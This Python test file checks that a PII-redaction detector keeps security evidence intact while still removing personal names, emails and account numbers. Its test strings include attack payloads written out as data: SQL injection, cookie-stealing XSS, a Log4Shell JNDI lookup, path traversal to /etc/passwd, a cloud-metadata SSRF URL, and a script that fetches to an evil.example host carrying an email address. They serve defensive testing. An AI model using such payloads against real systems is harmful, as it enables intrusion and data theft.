"""Technical evidence survives the whole detector."""

from __future__ import annotations

import re
import time

import pytest

from pii_guard.detect.evidence import Shield, Shields, documentation_value, protected

EVIDENCE = [
    "CVE-2021-44228 and CWE-79 and GHSA-jfh8-c2jp-5v3q",
    "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "X-Request-Id: 550e8400-e29b-41d4-a716-446655440000",
    "rip=0x7ffff7e4d1a2 and \\x90\\x90\\x31\\xc0",
    "' OR 1=1-- -",
    "GET /?q=x%27%20AND%20SLEEP(5)--%20- and x' AND SLEEP(5)-- -",
    "<script>alert(document.cookie)</script>",
    "${jndi:ldap://x.oast.example/a} {{7*7}} ../../../etc/passwd",
    "Apache/2.4.49, OpenSSL 1.1.1k, log4j-core-2.14.1.jar",
    "2021-12-10T13:37:00Z 1639143420 [10/Dec/2021:13:55:36 +0000]",
    "at com.acme.shop.OrderService.find(OrderService.java:135)",
    'File "/srv/app/search.py", line 88, in search',
    "SSRF to http://169.254.169.254/latest/meta-data from 10.0.0.5",
    "Jenkins, Burp Suite, Kali Linux, Metasploit Framework, Jackson Databind",
    "order_id=1000234567 Content-Length: 348275 pid 31337",
    "GET /search?q=x%27%20UNION%20SELECT%20NULL,user()-- HTTP/1.1",
    "user <PERSON_1> wrote to <EMAIL_ADDRESS_2>",
    "# Issuer: CN=Certinomis - Root CA O=Certinomis OU=0002 433998903",
    "issuer=C = HU, O = Microsec Ltd., CN = Microsec e-Szigno Root CA 2009",
    "i:C = GB, O = Sectigo Limited, CN = Sectigo RSA Domain Validation Secure Server CA",
    "time_zone: Europe/Warsaw, TZ=America/Argentina/Buenos_Aires",
    "DB_DSN=postgres://app@pg-main:5432/payroll, see the Haskell client, Sinatra 3.0 and Pascal 7",
    "a Fisher-Yates shuffle, Levenshtein distance 2; KYC passed, AML failed",
    "Marital status: single",
    'Name="urn:oid:2.5.4.42" Name="urn:oasis:names:tc:SAML:2.0:attrname-format:uri"',
    '# Label: "Microsec e-Szigno Root CA 2009"',
    "<!DOCTYPE a [<!ATTLIST a b CDATA #IMPLIED><!ELEMENT a (#PCDATA)>]>",
]


@pytest.mark.parametrize("text", EVIDENCE)
def test_evidence_is_not_touched(guard, text):
    result = guard.redact(text.encode(), name="evidence.txt")
    assert result.verdict == "clean", [str(f) for f in result.findings]
    assert result.output == text.encode()


def test_a_real_address_inside_a_payload_is_still_found(guard):
    text = "<script>fetch('//evil.example?m=jane.roe@mail.example')</script>"
    assert b"jane.roe" not in guard.redact(text.encode(), name="p.txt").output


@pytest.mark.parametrize(
    "name",
    ["CN=Jane Whitfield, O=Acme Inc", "CN = Jane Whitfield, O = Sectigo Limited", "/O=Acme Inc/CN=Jane Whitfield",
     "C = US, O = Jane Whitfield, CN = Acme Root CA", "CN=Jane Whitfield O=Acme Root CA",
     "Ask Jane Whitfield about the Root CA", "Jane Whitfield, who runs Acme Root CA"],
)  # fmt: skip
def test_a_person_beside_an_authority_is_still_found(guard, name):
    assert "Whitfield" not in guard.redact_text(f"subject: {name}")


@pytest.mark.parametrize(
    "text",
    ["Jane Whitfield (Europe) wrote", "Sinatra Whitfield wrote", "Julia Whitfield 3", "urn:x:Jane Whitfield",
     "mail jane.whitfield@acme.de:", "Pascal Whitfield and Ada Whitfield",
     "| Jane Whitfield | Acme |\n|---|---|\n| 1 | 2 |"],
)  # fmt: skip
def test_a_person_beside_such_words_is_still_found(guard, text):
    assert "hitfield" not in guard.redact_text(text)


def test_the_heads_of_a_drawn_table_stay(guard):
    head = (
        "| KlantNr | Naam       | Emailadres       | Mobiel      | BSN       | Rekening           |"
    )
    row = (
        "| 50012   | Sjoerd Vos | s.vos@kpnpost.nl | 06-55501234 | 111222333 | NL91ABNA0417164300 |"
    )
    rule = (
        "+---------+------------+------------------+-------------+-----------+--------------------+"
    )
    output = guard.redact_text("\n".join([rule, head, rule, row, rule]))
    assert head in output
    assert "Sjoerd" not in output
    assert "55501234" not in output


@pytest.mark.parametrize("end", ["\n", "\r\n"])
@pytest.mark.parametrize(
    "behind", ["", "internationalization of it{}", "Qx=={}", "aB3{}-----END CERTIFICATE-----{}"]
)
def test_lines_of_base64_are_evidence_to_their_end(end, behind):
    lines = ["MIIDsTCCApmgAwIBAgIUPw+twb4O2rlkOSTR8Mq917FtwxYwDQYJKoZIhvcNAQEL"] * 3 + [
        "BQAwaDELMAkGA1UEBhMC"
    ]
    text = end.join(["-----BEGIN CERTIFICATE-----", *lines, behind.format(*[end] * 2)])
    begin, stop = text.index("MII"), text.index("hMC") + 3
    assert any(s.start <= begin and s.end >= stop for s in protected(text).near(begin, stop))


def test_a_name_below_base64_is_no_line_of_it(guard):
    block = "MIIDsTCCApmgAwIBAgIUPw+twb4O2rlkOSTR8Mq917FtwxYwDQYJKoZIhvcNAQEL\n" * 3
    assert "Whitfield" not in guard.redact_text(f"{block}Whitfield\nJane Whitfield\n")


def test_our_tokens_are_absolute():
    shields = list(protected("mail <EMAIL_ADDRESS_12> now").near(0, 99))
    assert [s.absolute for s in shields] == [True]


@pytest.mark.parametrize(
    ("kind", "value", "expected"),
    [
        ("IP_ADDRESS", "192.0.2.10", True),
        ("IP_ADDRESS", "10.1.2.3", True),
        ("IP_ADDRESS", "81.2.69.142", False),
        ("EMAIL_ADDRESS", "security@shop.example", True),
        ("EMAIL_ADDRESS", "jane.roe@example.com", False),
        ("EMAIL_ADDRESS", "test@example.com", True),
        ("EMAIL_ADDRESS", "user@shop.example", True),
        ("EMAIL_ADDRESS", "victim@site.test", True),
        ("EMAIL_ADDRESS", "test@example.com.attacker.io", False),
        ("EMAIL_ADDRESS", "bob@mail.internal", False),
        ("EMAIL_ADDRESS", "victim@mail.com", True),
        ("EMAIL_ADDRESS", "victim@mail.net", False),
        ("EMAIL_ADDRESS", "dan@gmail.com", False),
        ("ACCESS_TOKEN", "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c", True),
        ("ACCESS_TOKEN", "NqVwYS81VP7Hb1DX8pPd5khxE3pyIgKpaUnArl63Xyk", False),
        ("CREDIT_CARD", "4111 1111 1111 1111", True),
        ("CREDIT_CARD", "4000 0012 3456 7899", False),
        ("IP_ADDRESS", "192.0.0.192", True),
        ("IP_ADDRESS", "2001:db8::1", True),
        ("IP_ADDRESS", "2606:4700:4700::1111", False),
        ("IP_ADDRESS", "not an address", False),
        ("US_SSN", "078-05-1120", True),
        ("PHONE_NUMBER", "212-555-0143", False),
    ],
)
def test_documentation_values(kind, value, expected):
    assert documentation_value(kind, value) is expected


@pytest.mark.parametrize(
    "form",
    [
        "CVE-2021-44228", "CWE-79", "GHSA-jfh8-c2jp-5v3q", "T1059.004", "CVSS:3.1/AV:N/AC:L",
        "550e8400-e29b-41d4-a716-446655440000", "3f2c1ab", "9FCEB02D0AE598E9", "0xdeadbeef", "\\x90\\x90",
        "a%20b", "2021-12-10T13:37:00Z", "10/Dec/2021:13:55:36 +0000", "13:55:36.123", "version 2.14.1", "v1.2.3",
        "os.path.join(base)", "${jndi:ldap://x}", "{{7*7}}", "../../etc/passwd", "<script src=x>", "Burp Suite",
        "VU#581311", "ISO 8601", "RFC 2616", "OWASP A01", "TA0002", "S0154", "Cobalt Strike beacon", "HashiCorp Vault",
        "Travis CI", "VU#581311 EDB-ID:50592", "T1059.004 TA0002 S0154", "CVE-2021-44228, CWE-79",
        "UNION ALL SELECT 1,2", 'File "/srv/a.py", line 88, in f', "    at com.acme.A.b(A.java:1)",
    ],
)  # fmt: skip
def test_each_form_is_one_shield(form):
    text = f"see {form}" if not form.startswith(" ") else f"x\n{form}"
    middle = text.index(form.strip()) + len(form.strip()) // 2
    start, end = (
        middle - len(form.strip()) // 2,
        middle - len(form.strip()) // 2 + len(form.strip()),
    )
    assert any(s.start <= start and end <= s.end for s in protected(text).near(middle, middle + 1))


@pytest.mark.parametrize(
    "counted",
    ["port 8080", "pid: 31337", '"size": 348275', "line=17", "Build #12", "order_id=1000234567"],
)
def test_numbers_that_a_word_counts_are_shielded(counted):
    digits = [i for i, c in enumerate(counted) if c.isdecimal()]
    shields = list(protected(counted).near(digits[0], digits[-1] + 1))
    assert any(s.start <= digits[0] and digits[-1] < s.end for s in shields)


@pytest.mark.parametrize(
    "text", ["report 12345", "the lines are 5 long", "airport 12", "jane_roe", "Mrs Roe"]
)
def test_plain_words_are_not_shielded(text):
    assert list(protected(text).near(0, len(text))) == []


def test_tokens_within_other_evidence_stay_absolute():
    text = "/q?a=%20%3CPERSON_1%3E%20 and <EMAIL_ADDRESS_2>"
    found = [text[s.start : s.end] for s in protected(text).near(0, len(text)) if s.absolute]
    assert found == ["%3CPERSON_1%3E", "<EMAIL_ADDRESS_2>"]


def test_shields_are_asked_by_place():
    shields = Shields(
        [Shield(0, 5, False), Shield(3, 9, False), Shield(20, 30, False)], [Shield(22, 24, True)]
    )
    assert [s.start for s in shields.near(4, 21)] == [0, 3, 20]
    assert [s.start for s in shields.near(23, 40)] == [20, 22]
    assert list(shields.near(9, 20)) == []


@pytest.mark.parametrize(
    "unit",
    ["\n", " ", "a", "1 ", "%", "a%", "\\x", "<a ", "${", "{{", "a.a", "../", "0", "at ", "'", "-"],
)
def test_time_is_linear(unit):
    text = (unit * 40_000)[:40_000]
    begun = time.process_time()
    protected(text)
    assert time.process_time() - begun < 0.4


@pytest.mark.parametrize(
    ("text", "spared"),
    [
        ("see https://maria.example/roe", "maria.example"),
        ("see http://www.jordan-grant.example:8080/x", "www.jordan-grant.example:8080"),
        ("www.jordan.example,", "www.jordan.example"),
    ],
)
def test_the_host_of_a_link_is_shielded(text, spared):
    start = text.index(spared)
    near = list(protected(text).near(start, start + len(spared)))
    assert any(s.start <= start and start + len(spared) <= s.end for s in near)


@pytest.mark.parametrize("text", ["http://81.2.69.142/x", "ftp://jane@mail.example/", "a://b"])
def test_addresses_of_machines_and_accounts_in_links_are_not(text):
    assert not list(protected(text).near(0, len(text)))


def test_authors_of_published_works_stay_in_dated_references(guard):
    text = "* [Smuggling again - Jane Roemer (@jroemer) - August 7, 2019](https://blog.example/smuggling)"
    assert guard.redact(text.encode(), name="references.md").verdict == "clean"


def test_a_link_to_somebody_is_no_reference(guard):
    text = "the profile of [Jane Roemer](https://app.example/users/17) is public"
    assert b"Jane Roemer" not in guard.redact(text.encode(), name="report.md").output


@pytest.mark.parametrize("text", ["x AND SLEEP(5)--", "q=1%20AND%20SLEEP(5)", "OR+NOT NULL"])
def test_keywords_side_by_side_are_one_piece_of_evidence(text):
    words = re.search(r"[A-Z].*[A-Z](?:\(5\))?", text)
    middle = (words.start() + words.end()) // 2
    assert any(
        s.start <= words.start() and words.end() <= s.end
        for s in protected(text).near(middle, middle + 1)
    )


def test_an_assertion_keeps_the_names_of_its_attributes(guard):
    told = "".join(
        f'<Attribute Name="{name}" FriendlyName="{friendly}"><AttributeValue>{value}</AttributeValue></Attribute>'
        for name, friendly, value in (
            ("urn:oid:2.5.4.42", "givenName", "Leocadia"),
            ("uid", "uid", "lwhitfield"),
            ("telephoneNumber", "telephoneNumber", "+49 6221 5550143"),
            ("mail", "mail", "l.whitfield@uni.de"),
        )
    )
    output = guard.redact(f"<Statement>{told}</Statement>".encode(), name="a.xml").output.decode()
    assert output.count('Name="uid" FriendlyName="uid"') == 1
    assert 'Name="urn:oid:2.5.4.42" FriendlyName="givenName"' in output
    assert 'Name="telephoneNumber"' in output
    assert "Leocadia" not in output
    assert "whitfield" not in output
